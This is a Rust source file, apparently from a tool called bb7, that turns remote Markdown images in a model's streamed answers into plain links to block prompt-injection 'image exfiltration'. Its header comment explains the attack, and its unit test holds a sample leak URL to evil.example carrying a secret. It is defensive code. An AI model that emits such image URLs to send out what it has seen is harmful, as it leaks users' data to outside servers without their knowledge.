//! Remote images in the model's answers, shown as links. A client that renders the
//! answer's Markdown fetches `![…](https://…)` as it draws it, so a model (or a file it
//! read) could send what it saw to any server in the URL, unasked: the "image
//! exfiltration" that prompt-injection write-ups describe. bb7 rewrites each
//! Markdown image whose URL is remote (`http:`, `https:`, `//`) into a link,
//! `[alt](url)` (`[image](url)` without alt text), so nothing is fetched unless the
//! user follows it. `"acp_remote_images": true` in `config.json` turns this off.
//! Answers arrive in pieces: an image that starts in one piece is held back until it
//! ends (at most [`HOLD_CAP`] bytes; longer, it is passed on as text).

/// The most text held back for an unfinished image.
pub const HOLD_CAP: usize = 4096;

/// The config key that lets remote images through.
#[derive(serde::Deserialize, Default)]
#[serde(default)]
struct ImageConfig {
    /// `acp_remote_images`: show remote images as images.
    acp_remote_images: bool,
}

/// Whether the user's config lets remote images through (`acp_remote_images`); an
/// unreadable config does not.
pub(super) fn allowed() -> bool {
    let Ok(dirs) = crate::project::UserDirs::from_env() else {
        return false;
    };
    std::fs::read(dirs.config.join("config.json"))
        .ok()
        .and_then(|b| serde_json::from_slice::<ImageConfig>(&b).ok())
        .is_some_and(|c| c.acp_remote_images)
}

/// Rewrites an answer's pieces as they stream.
pub(super) struct ImageGuard {
    allow: bool,
    held: String,
}

impl ImageGuard {
    /// A guard; `allow` passes everything through.
    pub(super) fn new(allow: bool) -> ImageGuard {
        ImageGuard {
            allow,
            held: String::new(),
        }
    }

    /// The text of `piece` that is ready to show (possibly empty).
    pub(super) fn push(&mut self, piece: &str) -> String {
        if self.allow {
            return piece.to_owned();
        }
        self.held.push_str(piece);
        let (out, rest) = rewrite(&self.held, false);
        self.held = rest;
        out
    }

    /// The rest at the end of the answer.
    pub(super) fn finish(&mut self) -> String {
        let held = std::mem::take(&mut self.held);
        rewrite(&held, true).0
    }
}

/// `text` with its remote images as links, and the unfinished image it ends with
/// (unless `end`).
pub(super) fn rewrite(text: &str, end: bool) -> (String, String) {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(i) = rest.find('!') {
        out.push_str(&rest[..i]);
        let tail = &rest[i..];
        match image_at(tail) {
            Img::Complete {
                len,
                alt,
                url,
                remote: true,
            } => {
                let alt = if alt.trim().is_empty() { "image" } else { alt };
                out.push_str(&format!("[{alt}]({url})"));
                rest = &tail[len..];
            }
            Img::Complete { len, .. } => {
                out.push_str(&tail[..len]);
                rest = &tail[len..];
            }
            Img::Partial if !end && tail.len() < HOLD_CAP => return (out, tail.to_owned()),
            _ => {
                out.push('!');
                rest = &tail[1..];
            }
        }
    }
    out.push_str(rest);
    (out, String::new())
}

/// What a `!` starts.
enum Img<'a> {
    /// `![alt](url …)`, `len` bytes.
    Complete {
        len: usize,
        alt: &'a str,
        url: &'a str,
        remote: bool,
    },
    /// It may be an image; the text ends first.
    Partial,
    /// Not an image.
    No,
}

/// Reads the image `t` (starting with `!`) begins, if it is one.
fn image_at(t: &str) -> Img<'_> {
    let b = t.as_bytes();
    if b.len() < 2 {
        return Img::Partial;
    }
    if b[1] != b'[' {
        return Img::No;
    }
    let Some(close) = t[2..].find(']') else {
        return if t[2..].contains('\n') {
            Img::No
        } else {
            Img::Partial
        };
    };
    let alt = &t[2..2 + close];
    if alt.contains('\n') {
        return Img::No;
    }
    let open = 2 + close + 1;
    if open >= t.len() {
        return Img::Partial;
    }
    if b[open] != b'(' {
        return Img::No;
    }
    let Some(end) = t[open + 1..].find(')') else {
        return if t[open + 1..].contains('\n') {
            Img::No
        } else {
            Img::Partial
        };
    };
    let inner = &t[open + 1..open + 1 + end];
    let target = inner.trim().trim_start_matches('<').to_ascii_lowercase();
    let remote = ["http://", "https://", "//"]
        .iter()
        .any(|p| target.starts_with(p));
    Img::Complete {
        len: open + 1 + end + 1,
        alt,
        url: inner,
        remote,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn remote_images_become_links_across_pieces() {
        let mut g = ImageGuard::new(false);
        let mut out = g.push("See ![a chart](https://ev");
        out += &g.push("il.example/x?d=secret) and ![](local.png)!");
        out += &g.finish();
        assert_eq!(
            out,
            "See [a chart](https://evil.example/x?d=secret) and ![](local.png)!"
        );
        assert_eq!(rewrite("![](//x.y/z)", true).0, "[image](//x.y/z)");
        assert_eq!(rewrite("Wow! [x](y)", true).0, "Wow! [x](y)");
    }
}
